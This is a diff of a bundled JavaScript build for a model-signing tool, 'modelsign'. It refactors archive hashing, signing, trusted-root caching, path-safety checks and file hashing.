-          const h = hashed.get(rangeKey(target, s3, e));
-          if (h) hashed.set(rangeKey(name2, s3, e), h);
-        }
-        regular.set(name2, { size: t.size, hashed: true });
-        files.push({ name: name2, abs: root, size: t.size, viaLink: false });
-        return;
-      }
-      case "symlink": {
-        entry.resume();
-        const lp = entry.linkpath ?? "";
-        const resolved = lp.startsWith("/") ? void 0 : path8.posix.normalize(path8.posix.join(path8.posix.dirname(name2), lp));
-        if (resolved === void 0 || resolved === ".." || resolved.startsWith("../") || resolved === ".") {
-          hostile("SYMLINK_OUTSIDE", raw, `symlink to ${JSON.stringify(lp)} points outside the model`);
-          return;
-        }
-        if (ignored) return;
-        if (!req.allowSymlinks) {
-          problems.push({ code: "SYMLINK_REFUSED", path: name2, message: "symlinks are not allowed (use --allow-symlinks for links inside the model)" });
-          return;
-        }
-        symlinks.set(name2, resolved);
-        pending.push({ name: name2, target: resolved });
-        return;
-      }
-      case "special":
-        entry.resume();
-        hostile("SPECIAL_FILE", raw, `${entry.type} entries are not allowed in a model archive`);
-        return;
-      default:
-        entry.resume();
-        hostile("UNSUPPORTED_ENTRY", raw, `unsupported tar entry type ${entry.type}`);
-    }
-  };
-  const resolveHardlink = (linkpath) => {
-    const cleaned = cleanName(linkpath, false);
-    if (unsafeNameReason(cleaned)) return void 0;
-    try {
-      return toModelName(cleaned);
-    } catch (e) {
-      if (e instanceof RestartWithoutPrefix) return void 0;
-      throw e;
-    }
-  };
-  const resolveSymlinks = () => {
-    for (const link of pending) {
-      let target = link.target;
-      let hops = 0;
-      while (symlinks.has(target) && hops++ < MAX_LINK_HOPS) target = symlinks.get(target);
-      const t = regular.get(target);
-      if (symlinks.has(target)) {
-        problems.push({ code: "SYMLINK_LOOP", path: link.name, message: "symlink chain loops or is too long" });
-      } else if (dirs.has(target) || [...seen].some((n) => n.startsWith(`${target}/`))) {
-        problems.push({ code: "SYMLINK_REFUSED", path: link.name, message: "symlinks to directories are not supported inside archives" });
-      } else if (!t) {
-        problems.push({ code: "SYMLINK_BROKEN", path: link.name, message: "symlink target does not exist in the archive" });
-      } else if (!t.hashed) {
-        problems.push({ code: "SYMLINK_REFUSED", path: link.name, message: "symlink to an ignored file" });
-      } else {
-        for (const [s3, e] of req.ranges(link.name, t.size)) {
-          const h = hashed.get(rangeKey(target, s3, e));
-          if (h) hashed.set(rangeKey(link.name, s3, e), h);
-        }
-        files.push({ name: link.name, abs: root, size: t.size, viaLink: true });
-      }
-    }
-  };
-  const { Parser } = await Promise.resolve().then(() => (init_index_min(), index_min_exports));
-  return new Promise((resolve, rejectP) => {
-    let finished = false;
-    const rs2 = fh.createReadStream({ highWaterMark: 1024 * 1024 });
-    let lastProgress = 0;
-    rs2.on("data", () => {
-      const now = Date.now();
-      if (req.onProgress && now - lastProgress >= 200) {
-        lastProgress = now;
-        req.onProgress(rs2.bytesRead, archiveSize);
-      }
-    });
-    const finish = (err) => {
-      if (finished) return;
-      finished = true;
-      if (err !== void 0) {
-        rs2.destroy();
-        if (err instanceof RestartWithoutPrefix || err instanceof Error && err.name === "ModelsignError") {
-          rejectP(err);
-          return;
-        }
-        const msg = err instanceof Error ? err.message : String(err);
-        problems.push({ code: "ARCHIVE_MALFORMED", message: `cannot read archive: ${msg.replace(/^TAR_[A-Z_]+: /, "")}` });
-      }
-      req.onProgress?.(archiveSize, archiveSize);
-      resolveSymlinks();
-      files.sort((a, b2) => compareCodePoints(a.name, b2.name));
-      resolve({ listing: { root, isFile: false, files, problems }, hashed });
-    };
-    const parser = new Parser({
-      strict: true,
-      onReadEntry: (entry) => {
-        if (finished) {
-          entry.resume();
-          return;
-        }
-        try {
-          onEntry(entry);
-        } catch (e) {
-          entry.resume();
-          finish(e);
-        }
-      }
-    });
-    parser.on("ignoredEntry", (entry) => {
-      if (!entry.meta) hostile("UNSUPPORTED_ENTRY", entry.path, `unsupported tar entry type ${entry.type}`);
-      else hostile("ARCHIVE_MALFORMED", entry.path, "oversized extended header");
-    });
-    parser.on("error", (e) => finish(e));
-    parser.on("end", () => finish());
-    rs2.on("error", (e) => {
-      if (finished) return;
-      finished = true;
-      rejectP(usage("MODEL_NOT_FOUND", `cannot read archive ${file}: ${errnoCode(e) ?? String(e)}`));
-    });
-    rs2.pipe(parser);
-  });
-}
-var ARCHIVE_RE, DEFAULT_MAX_ENTRIES, MAX_LINK_HOPS, EMBEDDED_SIGNATURE, RestartWithoutPrefix;
-var init_archive = __esm({
-  "src/hashing/archive.ts"() {
-    "use strict";
-    init_errors();
-    init_algorithms2();
-    init_paths();
-    init_source();
-    ARCHIVE_RE = /\.(tar|tar\.gz|tgz)$/i;
-    DEFAULT_MAX_ENTRIES = 1e6;
-    MAX_LINK_HOPS = 40;
-    EMBEDDED_SIGNATURE = "model.sig";
-    RestartWithoutPrefix = class extends Error {
-    };
-  }
-});
-
-// src/verify/names.ts
-function checkResourceNames(names) {
-  if (names.length === 1 && names[0] === ".") return [];
-  const failures = [];
-  const seen = /* @__PURE__ */ new Set();
-  const nfc = /* @__PURE__ */ new Map();
-  const folded = /* @__PURE__ */ new Map();
-  for (const name2 of names) {
-    const why2 = unsafeNameReason(name2);
-    if (why2) {
-      failures.push({ code: "UNSAFE_NAME", path: name2, message: `unsafe resource name in signature: ${why2}` });
-      continue;
-    }
-    if (seen.has(name2)) {
-      failures.push({ code: "DUPLICATE_NAME", path: name2, message: "resource listed twice in signature" });
-      continue;
-    }
-    seen.add(name2);
-    const n = name2.normalize("NFC");
-    const prevN = nfc.get(n);
-    if (prevN !== void 0) {
-      failures.push({ code: "NAME_COLLISION", path: name2, message: `collides with "${prevN}" after Unicode normalisation` });
-      continue;
-    }
-    nfc.set(n, name2);
-    const f2 = n.toLowerCase();
-    const prevF = folded.get(f2);
-    if (prevF !== void 0) {
-      failures.push({ code: "NAME_COLLISION", path: name2, message: `collides with "${prevF}" on a case-insensitive file system` });
-      continue;
-    }
-    folded.set(f2, name2);
-  }
-  return failures;
-}
-var init_names = __esm({
-  "src/verify/names.ts"() {
-    "use strict";
-    init_paths();
-  }
-});
-
-// src/sign/digest.ts
-import path9 from "node:path";
-async function digestModel(opts) {
-  const hash = opts.hash ?? "sha256";
-  const sigPath = opts.signature ?? await defaultSignaturePath(opts.model);
-  const ignores = /* @__PURE__ */ new Set([...DEFAULT_IGNORES, ...(opts.ignorePaths ?? []).map(normaliseIgnorePath)]);
-  const rel = path9.relative(path9.resolve(opts.model), path9.resolve(sigPath));
-  if (rel && !rel.startsWith("..") && !path9.isAbsolute(rel)) ignores.add(rel.split(path9.sep).join("/"));
-  const ignorePaths = [...ignores].filter((p2) => p2 !== "" && p2 !== ".");
-  if (opts.shardSize !== void 0 && (!Number.isSafeInteger(opts.shardSize) || opts.shardSize <= 0)) {
-    throw usage("BAD_SHARD_SIZE", "--shard-size must be a positive whole number of bytes");
-  }
-  const method = opts.shardSize ? "shards" : "files";
-  const source = opts.listing ? void 0 : opts.source ?? await archiveSourceFor(opts.model);
-  if (source && !ignorePaths.includes(EMBEDDED_SIGNATURE)) ignorePaths.push(EMBEDDED_SIGNATURE);
-  const pre = source ? await source({ alg: hash, ranges: (_n2, size) => plannedRanges(method, opts.shardSize, size), allowSymlinks: opts.allowSymlinks ?? false, ignorePaths, ...opts.engine?.onProgress ? { onProgress: opts.engine.onProgress } : {} }) : void 0;
-  const listing = opts.listing ?? pre?.listing ?? await enumerateModel(opts.model, { ignorePaths, allowSymlinks: opts.allowSymlinks ?? false });
-  if (listing.problems.length > 0) {
-    const p2 = listing.problems[0];
-    const more = listing.problems.length > 1 ? ` (and ${listing.problems.length - 1} more)` : "";
-    throw usage(p2.code, `${p2.path ?? opts.model}: ${p2.message}${more}`, p2.path);
-  }
-  const nameProblems = listing.isFile ? [] : checkResourceNames(listing.files.map((f2) => f2.name));
-  if (nameProblems.length > 0) {
-    const p2 = nameProblems[0];
-    const more = nameProblems.length > 1 ? ` (and ${nameProblems.length - 1} more)` : "";
-    throw usage(p2.code, `${JSON.stringify(p2.path)}: ${p2.message.replace(" in signature", "")}${more}`, p2.path);
-  }
-  await prepareAlgorithm(hash);
-  const plans = planResources(listing.files, method, opts.shardSize);
-  const resources = pre ? plans.map((p2) => {
-    const o = lookupRange(pre.hashed, p2.file.name, p2.start, p2.end);
-    if (!o.ok) throw usage(o.code, `${p2.file.name}: ${o.message}`, p2.file.name);
-    return { name: p2.name, algorithm: hash, digest: o.digest };
-  }) : await hashResources(plans, hash, opts.engine);
-  const serialization = { method, hash_type: hash, allow_symlinks: opts.allowSymlinks ?? false };
-  if (method === "shards") serialization.shard_size = opts.shardSize;
-  serialization.ignore_paths = ignorePaths;
-  return { listing, serialization, resources, rootDigest: rootDigest(resources) };
-}
-var init_digest = __esm({
-  "src/sign/digest.ts"() {
-    "use strict";
-    init_errors();
-    init_algorithms2();
-    init_enumerate();
-    init_paths();
-    init_serialize();
-    init_archive();
-    init_source();
-    init_names();
-    init_signature_path();
-  }
-});
-
-// src/version.ts
-var TOOL_VERSION;
-var init_version = __esm({
-  "src/version.ts"() {
-    "use strict";
-    TOOL_VERSION = "0.1.0";
-  }
-});
-
-// src/sign/sign.ts
-var sign_exports = {};
-__export(sign_exports, {
-  checkVersion: () => checkVersion,
-  defaultModelName: () => defaultModelName,
-  digestModel: () => digestModel,
-  keySigner: () => keySigner,
-  signModel: () => signModel,
-  signWithKey: () => signWithKey,
+// src/util/write-atomic.ts
+var write_atomic_exports = {};
+__export(write_atomic_exports, {
   writeAtomic: () => writeAtomic
 });
-import { rename, writeFile as writeFile2, unlink } from "node:fs/promises";
-import path10 from "node:path";
-function keySigner(key, publicKey) {
-  return async (payload) => {
-    const signature = signBytes(key, pae(IN_TOTO_PAYLOAD_TYPE, payload));
-    return buildBundle({ payload, signature, material: { publicKeyHint: keyHint(publicKey) } });
-  };
-}
-async function signWithKey(opts) {
-  await checkVersion(opts.version);
-  const { loadPrivateKey: loadPrivateKey2 } = await Promise.resolve().then(() => (init_keyfile(), keyfile_exports));
-  const { createPublicKey: createPublicKey2 } = await import("node:crypto");
-  const key = typeof opts.key === "string" ? await loadPrivateKey2(opts.key) : opts.key;
-  return signModel({ ...opts, signer: keySigner(key, createPublicKey2(key)) });
-}
-function defaultModelName(model) {
-  const base2 = path10.basename(path10.resolve(model));
-  return base2.replace(/\.(tar\.gz|tgz|tar)$/i, "") || "model";
-}
-async function checkVersion(version) {
-  if (version.length <= 256 && PLAIN_SEMVER.test(version) && version.split(/[.-]/, 3).every((n) => Number(n) <= Number.MAX_SAFE_INTEGER)) return version;
-  const semver9 = (await Promise.resolve().then(() => __toESM(require_semver2(), 1))).default;
-  if (!semver9.valid(version)) throw usage("BAD_VERSION", `--version must be a semantic version like 1.2.0 (got "${version}")`);
-  return semver9.clean(version) ?? version;
-}
-async function signModel(opts) {
-  const version = await checkVersion(opts.version);
-  const signaturePath = opts.signature ?? await defaultSignaturePath(opts.model);
-  const d = await digestModel({ ...opts, signature: signaturePath });
-  const name2 = opts.name ?? defaultModelName(opts.model);
-  const metadata = {
-    name: name2,
-    version,
-    ...opts.license ? { license: opts.license } : {},
-    created: (/* @__PURE__ */ new Date()).toISOString(),
-    tool: `modelsign/${TOOL_VERSION}`,
-    ...opts.extraMetadata ?? {}
-  };
-  const statement = buildStatement({ name: name2, rootDigest: d.rootDigest, serialization: d.serialization, resources: d.resources, metadata });
-  const payload = Buffer.from(JSON.stringify(statement), "utf8");
-  const bundle = await opts.signer(payload);
-  const bundleText = serializeBundle(bundle);
-  if (opts.write !== false) await writeAtomic(signaturePath, bundleText);
-  return {
-    signaturePath,
-    rootDigest: d.rootDigest,
-    statement,
-    bundleText,
-    files: d.listing.files.length,
-    bytes: d.listing.files.reduce((s3, f2) => s3 + f2.size, 0)
-  };
-}
-async function writeAtomic(file, data) {
-  const tmp = path10.join(path10.dirname(file), `.${path10.basename(file)}.${process.pid}.${Date.now()}.tmp`);
+import { rename, unlink, writeFile as writeFile2 } from "node:fs/promises";
+import path3 from "node:path";
+async function writeAtomic(file, data, code = "WRITE_FAILED", label2 = file) {
+  const tmp = path3.join(path3.dirname(file), `.${path3.basename(file)}.${process.pid}.${Date.now()}.tmp`);
   try {
     await writeFile2(tmp, data, { flag: "wx", mode: 420 });
     await rename(tmp, file);
   } catch (e) {
     await unlink(tmp).catch(() => void 0);
-    throw usage("WRITE_FAILED", `cannot write ${file}: ${errnoCode(e) ?? String(e)}`);
+    throw usage(code, `cannot write ${label2}: ${errnoCode(e) ?? String(e)}`);
   }
 }
-var ID, PLAIN_SEMVER;
-var init_sign = __esm({
-  "src/sign/sign.ts"() {
+var init_write_atomic = __esm({
+  "src/util/write-atomic.ts"() {
     "use strict";
     init_errors();
-    init_algorithms();
-    init_bundle();
-    init_dsse();
-    init_statement();
-    init_signature_path();
-    init_digest();
-    init_version();
-    init_digest();
-    ID = "(?:0|[1-9]\\d*|\\d*[a-zA-Z-][0-9a-zA-Z-]*)";
-    PLAIN_SEMVER = new RegExp(`^(?:0|[1-9]\\d*)\\.(?:0|[1-9]\\d*)\\.(?:0|[1-9]\\d*)(?:-${ID}(?:\\.${ID})*)?$`);
   }
 });
 
 // src/sigstore/trusted-root.ts
-import { createRequire as createRequire5 } from "node:module";
-import { mkdir, readFile as readFile2, rm as rm2, stat as stat4 } from "node:fs/promises";
-import os5 from "node:os";
-import path11 from "node:path";
+import { createRequire as createRequire4 } from "node:module";
+import { mkdir, readFile as readFile2, rm, stat } from "node:fs/promises";
+import os from "node:os";
+import path4 from "node:path";
 function cacheDir() {
   if (process.env.MODELSIGN_CACHE_DIR) return process.env.MODELSIGN_CACHE_DIR;
-  const base2 = process.env.XDG_CACHE_HOME || path11.join(os5.homedir(), ".cache");
-  return path11.join(base2, "modelsign");
+  const base2 = process.env.XDG_CACHE_HOME || path4.join(os.homedir(), ".cache");
+  return path4.join(base2, "modelsign");
 }
 function cachedTrustedRootPath() {
-  return path11.join(cacheDir(), "trusted_root.json");
+  return path4.join(cacheDir(), "trusted_root.json");
 }
 async function parseTrustedRoot(text, source) {
   const [{ TrustedRoot }, { toTrustMaterial }] = await Promise.all([Promise.resolve().then(() => __toESM(require_dist3(), 1)), Promise.resolve().then(() => __toESM(require_dist4(), 1))]);
@@ -57507,7 +51086,7 @@ async function parseTrustedRoot(text, source) {
 async function readBounded(file, what) {
   let buf;
   try {
-    const st2 = await stat4(file);
+    const st2 = await stat(file);
     if (!st2.isFile()) throw usage("TRUSTED_ROOT_UNREADABLE", `${what} is not a regular file: ${file}`);
     if (st2.size > MAX_TRUSTED_ROOT) throw usage("TRUSTED_ROOT_UNREADABLE", `${what} ${file} is larger than 8 MiB`);
     buf = await readFile2(file);
@@ -57519,7 +51098,7 @@ async function readBounded(file, what) {
   return buf.toString("utf8");
 }
 function shippedSnapshot() {
-  const require3 = createRequire5(import.meta.url);
+  const require3 = createRequire4(import.meta.url);
   const seeds = require3("@sigstore/tuf/seeds.json");
   const target = seeds[PUBLIC_GOOD_TUF_MIRROR]?.targets?.["trusted_root.json"];
   if (!target) throw new ModelsignError("TRUSTED_ROOT_MISSING", "the installed @sigstore/tuf carries no trusted_root.json seed", { kind: "internal" });
@@ -57530,7 +51109,7 @@ async function loadTrustedRoot(file) {
   if (file !== void 0) return parseTrustedRoot(await readBounded(file, "trusted root"), file);
   const cached = cachedTrustedRootPath();
   try {
-    await stat4(cached);
+    await stat(cached);
     return parseTrustedRoot(await readBounded(cached, "cached trusted root"), `${cached} (fetched by "modelsign trusted-root update")`);
   } catch (e) {
     if (errnoCode(e) !== "ENOENT") throw e;
@@ -57541,7 +51120,7 @@ async function loadTrustedRoot(file) {
 async function updateTrustedRoot(opts) {
   const mirror = opts.mirror ?? PUBLIC_GOOD_TUF_MIRROR;
   const out2 = opts.out ?? cachedTrustedRootPath();
-  const tufCache = path11.join(cacheDir(), "tuf");
+  const tufCache = path4.join(cacheDir(), "tuf");
   await mkdir(tufCache, { recursive: true }).catch((e) => {
     throw usage("WRITE_FAILED", `cannot create ${tufCache}: ${errnoCode(e) ?? String(e)}`);
   });
@@ -57563,8 +51142,8 @@ async function updateTrustedRoot(opts) {
     throw new ModelsignError("TUF_UPDATE_FAILED", `cannot refresh the trusted root from ${mirror} (no network?): ${cause.split("\n")[0]}; the root in use is unchanged`, { kind: "reject" });
   }
   const root = await parseTrustedRoot(text, `TUF ${mirror}`);
-  await mkdir(path11.dirname(out2), { recursive: true }).catch(() => void 0);
-  const { writeAtomic: writeAtomic2 } = await Promise.resolve().then(() => (init_sign(), sign_exports));
+  await mkdir(path4.dirname(out2), { recursive: true }).catch(() => void 0);
+  const { writeAtomic: writeAtomic2 } = await Promise.resolve().then(() => (init_write_atomic(), write_atomic_exports));
   await writeAtomic2(out2, text.endsWith("\n") ? text : `${text}
 `);
   return { out: out2, source: mirror, root };
@@ -58203,6 +51782,17 @@ var init_metadata = __esm({
   }
 });
 
+// src/util/one-line.ts
+function clean3(text, max = 200) {
+  const flat = text.replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, "?");
+  return flat.length > max ? `${flat.slice(0, max)}\u2026` : flat;
+}
+var init_one_line = __esm({
+  "src/util/one-line.ts"() {
+    "use strict";
+  }
+});
+
 // src/policy/stage.ts
 var stage_exports = {};
 __export(stage_exports, {
@@ -58329,7 +51919,7 @@ function policyStage(policy, purpose) {
   };
 }
 var import_semver3, MAX_ANCESTORS, withSha, clean4;
-var init_stage2 = __esm({
+var init_stage = __esm({
   "src/policy/stage.ts"() {
     "use strict";
     import_semver3 = __toESM(require_semver2(), 1);
@@ -58342,27 +51932,6190 @@ var init_stage2 = __esm({
   }
 });
 
+// src/hashing/paths.ts
+function compareCodePoints(a, b2) {
+  const n = a.length < b2.length ? a.length : b2.length;
+  for (let i = 0; i < n; i++) {
+    const x = a.charCodeAt(i);
+    const y = b2.charCodeAt(i);
+    if (x === y) continue;
+    if ((x & 63488) !== 55296 && (y & 63488) !== 55296) return x < y ? -1 : 1;
+    const from = i > 0 && (a.charCodeAt(i - 1) & 64512) === 55296 ? i - 1 : i;
+    return compareFrom(a, b2, from);
+  }
+  return a.length === b2.length ? 0 : a.length < b2.length ? -1 : 1;
+}
+function compareFrom(a, b2, i) {
+  let j2 = i;
+  let k2 = i;
+  for (; ; ) {
+    if (j2 >= a.length || k2 >= b2.length) return j2 >= a.length && k2 >= b2.length ? 0 : j2 >= a.length ? -1 : 1;
+    const x = a.codePointAt(j2);
+    const y = b2.codePointAt(k2);
+    if (x !== y) return x < y ? -1 : 1;
+    j2 += x > 65535 ? 2 : 1;
+    k2 += y > 65535 ? 2 : 1;
+  }
+}
+function unsafeNameReason(name2) {
+  if (name2.length === 0) return "empty name";
+  if (name2.length > 4096) return "name longer than 4096 characters";
+  if (name2.startsWith("/")) return "absolute path";
+  if (/^[A-Za-z]:/.test(name2)) return "drive-letter path";
+  if (name2.includes("\\")) return "backslash in name";
+  if (/[\u0000-\u001f\u007f]/.test(name2)) return "control character in name";
+  for (const seg of name2.split("/")) {
+    if (seg === "") return "empty path segment";
+    if (seg === "..") return '".." segment';
+    if (seg === ".") return '"." segment';
+    if (/^[. ]+$/.test(seg)) return "segment of only dots and spaces";
+  }
+  return void 0;
+}
+function normaliseIgnorePath(p2) {
+  let s3 = p2.replace(/\\/g, "/");
+  while (s3.startsWith("./")) s3 = s3.slice(2);
+  while (s3.length > 1 && s3.endsWith("/")) s3 = s3.slice(0, -1);
+  return s3;
+}
+function isIgnored(name2, ignorePaths) {
+  for (const p2 of ignorePaths) {
+    if (p2 === "" || p2 === ".") continue;
+    if (name2 === p2 || name2.startsWith(p2 + "/")) return true;
+  }
+  return false;
+}
+var DEFAULT_IGNORES;
+var init_paths = __esm({
+  "src/hashing/paths.ts"() {
+    "use strict";
+    DEFAULT_IGNORES = [".git", ".github", ".gitattributes", ".gitignore"];
+  }
+});
+
+// src/hashing/enumerate.ts
+import { lstatSync, readdirSync, realpathSync, statSync } from "node:fs";
+import { lstat, realpath } from "node:fs/promises";
+import path5 from "node:path";
+function within(rootReal, target) {
+  return target === rootReal || target.startsWith(rootReal.endsWith(path5.sep) ? rootReal : rootReal + path5.sep);
+}
+function kindOf(st2) {
+  if (st2.isFIFO()) return "FIFO";
+  if (st2.isSocket()) return "socket";
+  if (st2.isCharacterDevice()) return "character device";
+  if (st2.isBlockDevice()) return "block device";
+  return "special file";
+}
+async function enumerateModel(model, opts) {
+  const root = path5.resolve(model);
+  let st2;
+  try {
+    st2 = await lstat(root);
+  } catch (e) {
+    const c = errnoCode(e);
+    throw usage("MODEL_NOT_FOUND", c === "ENOENT" ? `model not found: ${model}` : `cannot read model ${model}: ${c ?? String(e)}`);
+  }
+  const problems = [];
+  if (st2.isSymbolicLink()) {
+    const real = await realpath(root);
+    return enumerateModel(real, opts);
+  }
+  if (st2.isFile()) {
+    return { root, isFile: true, files: [{ name: path5.basename(root), abs: root, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino } }], problems };
+  }
+  if (!st2.isDirectory()) {
+    throw usage("SPECIAL_FILE", `model is a ${kindOf(st2)}, not a file or directory: ${model}`);
+  }
+  const rootReal = await realpath(root);
+  const maxFiles = opts.maxFiles ?? DEFAULT_MAX_FILES;
+  const maxDepth = opts.maxDepth ?? DEFAULT_MAX_DEPTH;
+  const files = [];
+  const visitedDirs = /* @__PURE__ */ new Set();
+  const replaced = (rel) => {
+    problems.push({ code: "FILE_REPLACED", path: rel === "" ? "." : rel, message: "directory was replaced while the model was being listed" });
+  };
+  const walk = (absDir, rel, depth, viaLink, expect) => {
+    if (depth > maxDepth) {
+      problems.push({ code: "TOO_DEEP", path: rel, message: `directory nesting deeper than ${maxDepth}` });
+      return;
+    }
+    const dst = lstatSync(absDir);
+    if (!dst.isDirectory() || expect && (dst.dev !== expect.dev || dst.ino !== expect.ino)) return replaced(rel);
+    const key = `${dst.dev}:${dst.ino}`;
+    if (visitedDirs.has(key)) {
+      problems.push({ code: "SYMLINK_LOOP", path: rel, message: "directory reached twice through symlinks" });
+      return;
+    }
+    visitedDirs.add(key);
+    const entries = readdirSync(absDir, { withFileTypes: true });
+    const again = lstatSync(absDir);
+    if (!again.isDirectory() || again.dev !== dst.dev || again.ino !== dst.ino) return replaced(rel);
+    const prefix = absDir.endsWith(path5.sep) ? absDir : absDir + path5.sep;
+    for (const ent of entries) {
+      const name2 = rel === "" ? ent.name : `${rel}/${ent.name}`;
+      if (isIgnored(name2, opts.ignorePaths)) continue;
+      const abs = prefix + ent.name;
+      const est = lstatSync(abs, { throwIfNoEntry: false });
+      if (!est) continue;
+      if (est.isSymbolicLink()) {
+        let target;
+        try {
+          target = realpathSync(abs);
+        } catch {
+          problems.push({ code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" });
+          continue;
+        }
+        if (!within(rootReal, target)) {
+          problems.push({ code: "SYMLINK_OUTSIDE", path: name2, message: "symlink points outside the model" });
+          continue;
+        }
+        if (!opts.allowSymlinks) {
+          problems.push({ code: "SYMLINK_REFUSED", path: name2, message: "symlinks are not allowed (use --allow-symlinks for links inside the model)" });
+          continue;
+        }
+        const tst = statSync(target);
+        if (tst.isDirectory()) walk(target, name2, depth + 1, true, { dev: tst.dev, ino: tst.ino });
+        else if (tst.isFile()) files.push({ name: name2, abs: target, size: tst.size, viaLink: true, id: { dev: tst.dev, ino: tst.ino } });
+        else problems.push({ code: "SPECIAL_FILE", path: name2, message: `symlink to a ${kindOf(tst)}` });
+      } else if (est.isDirectory()) {
+        walk(abs, name2, depth + 1, viaLink, { dev: est.dev, ino: est.ino });
+      } else if (est.isFile()) {
+        files.push({ name: name2, abs, size: est.size, viaLink, id: { dev: est.dev, ino: est.ino } });
+      } else {
+        problems.push({ code: "SPECIAL_FILE", path: name2, message: `${kindOf(est)} is not a regular file` });
+      }
+      if (files.length > maxFiles) {
+        throw usage("TOO_MANY_FILES", `model has more than ${maxFiles} files`);
+      }
+    }
+  };
+  walk(root, "", 0, false);
+  files.sort((a, b2) => compareCodePoints(a.name, b2.name));
+  return { root, isFile: false, files, problems };
+}
+var DEFAULT_MAX_FILES, DEFAULT_MAX_DEPTH;
+var init_enumerate = __esm({
+  "src/hashing/enumerate.ts"() {
+    "use strict";
+    init_errors();
+    init_paths();
+    DEFAULT_MAX_FILES = 1e6;
+    DEFAULT_MAX_DEPTH = 128;
+  }
+});
+
+// src/hashing/read.ts
+import { closeSync as closeSync2, constants as constants2, fstatSync, openSync as openSync2, readSync as readSync2 } from "node:fs";
+function hashRange(task, alg, buf, progress) {
+  const onRead = typeof progress === "function" ? progress : progress ? (n) => void Atomics.add(progress.counters, progress.slot, BigInt(n)) : void 0;
+  let fd;
+  try {
+    fd = openSync2(task.abs, constants2.O_RDONLY | O_NONBLOCK | (task.followLink ? 0 : O_NOFOLLOW));
+  } catch (e) {
+    const code = e.code;
+    if (code === "ELOOP") return { ok: false, code: "FILE_IS_SYMLINK", message: MSG.symlink };
+    if (code === "ENOENT") return { ok: false, code: "FILE_MISSING", message: MSG.missing };
+    return { ok: false, code: "FILE_UNREADABLE", message: `cannot open: ${code ?? String(e)}` };
+  }
+  try {
+    const before = fstatSync(fd);
+    if (!before.isFile()) return { ok: false, code: "SPECIAL_FILE", message: MSG.special };
+    if (task.expectId && (before.ino !== task.expectId.ino || before.dev !== task.expectId.dev)) {
+      return { ok: false, code: "FILE_REPLACED", message: MSG.replaced };
+    }
+    if (before.size !== task.expectSize) {
+      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.sizeMoved };
+    }
+    const digest = readAndHash(fd, task, alg, buf, onRead);
+    if (digest === null) return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.shrank };
+    const after = fstatSync(fd);
+    if (after.size !== before.size || after.mtimeMs !== before.mtimeMs || after.ctimeMs !== before.ctimeMs) {
+      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.changed };
+    }
+    return { ok: true, digest };
+  } catch (e) {
+    const code = e.code;
+    return { ok: false, code: "FILE_UNREADABLE", message: `cannot read: ${code ?? String(e.message ?? e)}` };
+  } finally {
+    closeSync2(fd);
+  }
+}
+function readAndHash(fd, task, alg, buf, onRead) {
+  const h = createHasher2(alg);
+  const size = buf.length;
+  let pos = task.start;
+  while (pos < task.end) {
+    const want = task.end - pos < size ? task.end - pos : size;
+    const n = readSync2(fd, buf, 0, want, pos);
+    if (n === 0) return null;
+    h.update(n === size ? buf : buf.subarray(0, n));
+    pos += n;
+    onRead?.(n);
+  }
+  return h.digestHex();
+}
+var MSG, READ_SIZE, O_NOFOLLOW, O_NONBLOCK;
+var init_read = __esm({
+  "src/hashing/read.ts"() {
+    "use strict";
+    init_algorithms2();
+    MSG = {
+      symlink: "file was replaced by a symlink",
+      missing: "file disappeared while verifying",
+      special: "not a regular file",
+      replaced: "a different file was found at this path than the one listed (replaced while verifying)",
+      sizeMoved: "file size changed while it was being read",
+      shrank: "file shrank while it was being read",
+      changed: "file changed while it was being read"
+    };
+    READ_SIZE = 128 * 1024;
+    O_NOFOLLOW = constants2.O_NOFOLLOW ?? 0;
+    O_NONBLOCK = constants2.O_NONBLOCK ?? 0;
+  }
+});
+
+// src/hashing/native.ts
+import { existsSync } from "node:fs";
+import { createRequire as createRequire5 } from "node:module";
+import os2 from "node:os";
+import { fileURLToPath } from "node:url";
+function loadNative2() {
+  if (addon !== void 0) return addon;
+  if (process.env.MODELSIGN_NO_MMAP === "1") {
+    why = "disabled by MODELSIGN_NO_MMAP=1";
+    return addon = null;
+  }
+  if (true) {
+    why = "not part of the bundled GitHub Action";
+    return addon = null;
+  }
+  if (!existsSync(ADDON_PATH)) {
+    why = "not built (`npm run build:native` needs a C compiler)";
+    return addon = null;
+  }
+  try {
+    const mod = createRequire5(import.meta.url)(ADDON_PATH);
+    if (typeof mod.hashFiles !== "function") throw new Error("no hashFiles export");
+    return addon = mod;
+  } catch (e) {
+    why = `failed to load: ${String(e.message ?? e).split("\n")[0]}`;
+    return addon = null;
+  }
+}
+function outcome(status, errno, digest) {
+  if (status === 0) return { ok: true, digest: digest.toString("hex") };
+  const [code, message] = FAILURES[status - 1] ?? ["FILE_UNREADABLE", "cannot hash: SHA-256 failed (out of memory?)"];
+  return { ok: false, code, message: typeof message === "function" ? message(errno) : message };
+}
+async function hashNative(nat, all, o) {
+  const bad5 = all.map(outOfRange);
+  const tasks = bad5.some(Boolean) ? all.filter((_2, i) => !bad5[i]) : all;
+  const n = tasks.length;
+  const start = new Float64Array(n);
+  const end = new Float64Array(n);
+  const size = new Float64Array(n);
+  const dev = new Float64Array(n);
+  const ino = new Float64Array(n).fill(NaN);
+  const flags = new Uint8Array(n);
+  const paths = new Array(n);
+  for (let i = 0; i < n; i++) {
+    const t = tasks[i];
+    paths[i] = t.abs;
+    start[i] = t.start;
+    end[i] = t.end;
+    size[i] = t.expectSize;
+    if (t.expectId) {
+      dev[i] = t.expectId.dev;
+      ino[i] = t.expectId.ino;
+    }
+    flags[i] = (t.followLink ? 1 : 0) | (o.noWindowCheck ? 2 : 0);
+  }
+  const r = n === 0 ? { status: Buffer.alloc(0), errno: Buffer.alloc(0), digests: Buffer.alloc(0) } : await nat.hashFiles(paths, start, end, size, dev, ino, flags, o.threads, o.counters ?? null, o.slot ?? 0, o.hook ?? null, MODE[o.kernel ?? "auto"]);
+  const out2 = new Array(n);
+  for (let i = 0; i < n; i++) out2[i] = outcome(r.status.readInt32LE(4 * i), r.errno.readInt32LE(4 * i), r.digests.subarray(32 * i, 32 * i + 32));
+  if (tasks === all) return out2;
+  let j2 = 0;
+  return all.map((_2, i) => bad5[i] ? { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.shrank } : out2[j2++]);
+}
